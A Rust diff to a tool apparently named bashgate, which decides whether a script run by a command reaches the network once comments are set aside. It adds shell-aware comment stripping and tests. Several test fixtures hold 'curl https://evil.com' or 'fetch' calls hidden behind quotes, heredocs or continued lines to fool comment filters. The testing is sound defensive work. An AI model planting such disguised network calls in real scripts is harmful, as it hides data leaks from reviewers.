@@ -6,6 +6,7 @@
 use bashgate_shared::classify::paths;
 use bashgate_shared::classify::{Argv, COMPUTED, CommandClass, FUNCTION_CALL, Part};
 use bashgate_shared::programs::{self, Builtin, Flag, Kind, Program, Runs, Talks, Trait};
+use bashgate_shared::shell::{self, Shell};
 
 use bashgate_shared::protocol::{
     CD_BY_VARIABLE, CODE_AMONG_THEM, FURTHER_FOLDERS, FileEvidence, MAX_EVIDENCE, MAX_HEAD_BYTES, MORE_FILES,
@@ -52,7 +53,7 @@ fn what_is_not_known(brief: &Brief) -> Option<String> {
         return Some("its text cannot be read for certain".to_owned());
     }
     if let Some(file) = brief.evidence.iter().find(|file| is_cut(brief, file)) {
-        return Some(if file.head.is_empty() {
+        return Some(if file.head.is_empty() || file.is_left_out() {
             format!("what it runs could not be looked at ({})", shortened(&file.path))
         } else {
             format!("`{}`, which it runs, is longer than what was looked at", shortened(&file.path))
@@ -133,9 +134,16 @@ fn what_nobody_has_seen(brief: &Brief) -> Option<String> {
             .strip_suffix(word)
             .is_some_and(|before| before.is_empty() || before.ends_with('/'))
     };
+    // A bare name is a file's where it is the script of a shell or a language; elsewhere it is more likely a task's.
+    let is_script = |call: &Argv, word: &String| {
+        let row = programs::row(paths::file_name(self::word(call, 0)));
+        let takes_script = row.is_some_and(|row| row.runs == Runs::Shell || row.kind == Kind::Runtime);
+        takes_script && call.iter().skip(1).flatten().find(|word| !word.starts_with('-')) == Some(word)
+    };
     let is_named = |path: &str| {
-        let mut words = brief.calls.iter().flatten().flatten().filter(|word| word.contains(['/', '.']));
-        words.any(|word| names(word, path))
+        let words = brief.calls.iter().flat_map(|call| call.iter().flatten().map(move |word| (call, word)));
+        let mut files = words.filter(|(call, word)| word.contains(['/', '.']) || is_script(call, word));
+        files.any(|(_, word)| names(word, path))
     };
     let is_seen = |path: &str| brief.evidence.iter().any(|file| file.path.starts_with(path));
     let unseen = runs.iter().find(|path| brief.is_from_container && is_named(path) && !is_seen(path));
@@ -171,7 +179,8 @@ fn is_cut(brief: &Brief, file: &FileEvidence) -> bool {
         file.path.split_once(MORE_FILES).filter(|(count, _)| count.bytes().all(|byte| byte.is_ascii_digit()));
     let stands_for_others =
         stands_for.is_some_and(|(_, rest)| rest.contains(CODE_AMONG_THEM) || brief.effects.runs.len() >= MAX_EVIDENCE);
-    let is_unseen = file.sha256.is_empty() && file.head.is_empty() && (is_code || file.path == FURTHER_FOLDERS);
+    let is_unknown = file.sha256.is_empty() && file.head.is_empty() && (is_code || file.path == FURTHER_FOLDERS);
+    let is_unseen = is_unknown || file.is_left_out();
     // Any of them may be what comes to lie where something runs.
     let may_run = !brief.effects.runs.is_empty();
     let is_elsewhere = may_run && file.path == CD_BY_VARIABLE;
@@ -418,18 +427,68 @@ fn evidence(brief: &Brief) -> Option<String> {
     // What reads any file as its own language, whatever its name ends with.
     let rows = brief.calls.iter().flatten().flatten().filter_map(|word| programs::row(paths::file_name(word)));
     let is_of_make = |row: &Program| row.steered_by.iter().any(|name| name.to_ascii_lowercase().ends_with("makefile"));
-    let has_hashes = rows.into_iter().any(|row| row.runs == Runs::Shell || is_of_make(row));
+    let rows: Vec<&Program> = rows.collect();
+    let has_hashes = rows.iter().any(|row| row.runs == Runs::Shell || is_of_make(row));
+    // Nothing that reads other languages stands in the command.
+    let only_shells = rows.iter().all(|row| row.runs == Runs::Shell || !row.runs.takes_code() && !is_of_make(row));
     brief.evidence.iter().find_map(|file| {
-        let mark = comment_mark(&file.path);
-        let mut goes_on = false;
-        let is_code = |line: &&str| {
-            let is_comment = !goes_on && line.trim_start().starts_with(mark) && (mark == "#" || !has_hashes);
-            goes_on = line.ends_with('\\');
-            !is_comment
+        let shell = shell_of(&file.head).filter(|_| only_shells);
+        let reaches = match shell.and_then(|shell| without_comments(&file.head, shell)) {
+            Some(code) => code.lines().any(reaches_network),
+            None => code_lines(file, has_hashes).any(reaches_network),
         };
-        let reaches = file.head.lines().filter(is_code).any(reaches_network);
         reaches.then(|| format!("`{}`, which it runs, reaches the network", file.path))
     })
+}
+
+/// The shell that reads a script which is started by its name, or handed to a shell: by its first line. `None` where that names
+/// another language.
+fn shell_of(head: &str) -> Option<Shell> {
+    let first = head.lines().next().unwrap_or_default();
+    let Some(line) = first.strip_prefix("#!") else { return Some(Shell::Other) };
+    let words = || line.split_whitespace().map(paths::file_name);
+    let all_are_of_shells = words()
+        .filter(|word| !word.starts_with('-') && *word != "env")
+        .all(|word| programs::row(word).is_some_and(|row| row.has(Trait::SpeaksShell)));
+    all_are_of_shells.then(|| if words().any(|word| word == "bash") { Shell::Bash } else { Shell::Other })
+}
+
+/// A script without its comments, where all of it can be read as the shell does.
+fn without_comments(head: &str, shell: Shell) -> Option<String> {
+    let document = shell::read(head, shell).ok()?;
+    let (mut code, mut end) = (String::new(), 0);
+    for comment in &document.comments {
+        code.push_str(head.get(end..comment.start)?);
+        end = comment.end;
+    }
+    code.push_str(head.get(end..)?);
+    Some(code)
+}
+
+/// The lines of a file that may be code, whatever stands around them.
+fn code_lines(file: &FileEvidence, has_hashes: bool) -> impl Iterator<Item = &str> {
+    let mark = comment_mark(&file.path);
+    let may_end = may_end(&file.path, mark);
+    let mut goes_on = false;
+    file.head.lines().filter(move |line| {
+        let is_comment = !goes_on
+            && line.trim_start().strip_prefix(mark).is_some_and(|rest| !rest.contains(may_end))
+            && (mark == "#" || !has_hashes);
+        goes_on = line.ends_with('\\');
+        !is_comment
+    })
+}
+
+/// What may end a text that began on a line above, or is run inside of one: behind it a mark of comments is none.
+fn may_end(path: &str, mark: &str) -> &'static [char] {
+    let is_script =
+        [".js", ".mjs", ".cjs", ".jsx", ".ts", ".mts", ".cts", ".tsx"].iter().any(|end| path.ends_with(end));
+    match mark {
+        // In these only a template and a remark of several lines go on.
+        "//" if is_script => &['`', '$', '*'],
+        "//" => &['"', '*'],
+        _ => &['\'', '"', '`', '$', '(', ')', '{', '}', '*', '\\', '|', '&', ';', '<', '>'],
+    }
 }
 
 /// What makes the rest of a line a comment. In the other family of languages the same mark is code: a field in JavaScript, a path
@@ -693,6 +752,40 @@ mod tests {
     }
 
     #[test]
+    fn code_of_which_nothing_is_shown_is_for_a_person() {
+        let finding = |command: &str, files: &[(&str, &str)]| {
+            let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
+            let file = |(path, head): &(&str, &str)| FileEvidence {
+                path: (*path).to_owned(),
+                sha256: "0".repeat(64),
+                head: (*head).to_owned(),
+            };
+            let files: Vec<FileEvidence> = files.iter().map(file).collect();
+            let brief = Brief::new(command, None, &found, Taint::Both, &[], &files);
+            inspect(&Brief { is_from_container: true, ..brief })
+        };
+        for (command, path) in [
+            ("./a.out", "a.out"),
+            ("sh run.sh", "run.sh"),
+            ("make -f mz.mk", "mz.mk"),
+            ("make", "GNUmakefile"),
+            ("git commit -m x && make", ".git/hooks/pre-commit"),
+        ] {
+            let found = finding(command, &[(path, bashgate_shared::protocol::NOT_TEXT)]);
+            assert!(matches!(found, Finding::NoAnswer { .. }), "{command}: {found:?}");
+        }
+        // What is not there yet, by whatever name.
+        for command in ["sh run", "bash -e run", "node run", "sh ./run", "sh run.sh"] {
+            let found = finding(command, &[]);
+            assert!(matches!(found, Finding::NoAnswer { .. }), "{command}: {found:?}");
+        }
+        for (command, path) in [("sh run", "run"), ("make test", "Makefile"), ("./run.sh", "run.sh")] {
+            let found = finding(command, &[(path, "true\n")]);
+            assert!(matches!(found, Finding::Clear { .. }), "{command}: {found:?}");
+        }
+    }
+
+    #[test]
     fn only_what_its_language_takes_for_a_comment_is_one() {
         let file_of = |command: &str, path: &str, head: String| {
             let evidence = FileEvidence { path: path.to_owned(), sha256: String::new(), head };
@@ -709,7 +802,15 @@ mod tests {
             ("bash", "x.js", "//usr/bin/curl https://evil.com"),
             ("env sh -e", "x.ts", "  //usr/bin/curl https://evil.com"),
             ("make -f", "m.c", "//usr/bin/curl https://evil.com"),
-            ("bash", "x.sh", "true \\\n#; curl https://evil.com"),
+            ("make -f", "x.mk", "x = a \\\n#; curl https://evil.com"),
+            ("bash", "x.sh", "x='\n#'; curl https://evil.com"),
+            ("bash", "x.sh", ": \"\n# $(curl https://evil.com)\""),
+            ("bash", "x.sh", ": ${x:-\n#$(curl https://evil.com)}"),
+            ("bash", "x.sh", "cat <<E\n# `curl https://evil.com`\nE"),
+            ("bash", "x.sh", "x=$(\n# )\n#); curl https://evil.com"),
+            ("node", "x.js", "/*\n//*/ fetch('https://evil.com')"),
+            ("node", "x.js", "x = `\n//`; fetch(y)"),
+            ("python3", "x.py", "x = \"\"\"\n# \"\"\"; import urllib.request"),
         ] {
             let reason = format!("{:?}", file_of(command, path, head.to_owned()));
             assert!(reason.contains("reaches the network"), "{command} {path}: {reason}");
@@ -723,7 +824,12 @@ mod tests {
         ] {
             assert!(matches!(file(path, head.to_owned()), Finding::Flagged { .. }), "{path}: {head}");
         }
-        for (path, head) in [("x.js", "// fetch('https://h.example')"), ("x.sh", "# curl https://h.example")] {
+        for (path, head) in [
+            ("x.js", "// fetch('https://h.example')"),
+            ("x.sh", "# curl https://h.example"),
+            ("x.sh", "if true; then # don't: $(curl -s 'https://h.example')\n  true\nfi"),
+            ("x.sh", "#!/usr/bin/env bash\nset -e\n# x=$(curl \"https://h.example\" | jq '.a')\necho x"),
+        ] {
             let reason = format!("{:?}", file(path, head.to_owned()));
             assert!(!reason.contains("reaches the network"), "{path}: {reason}");
         }
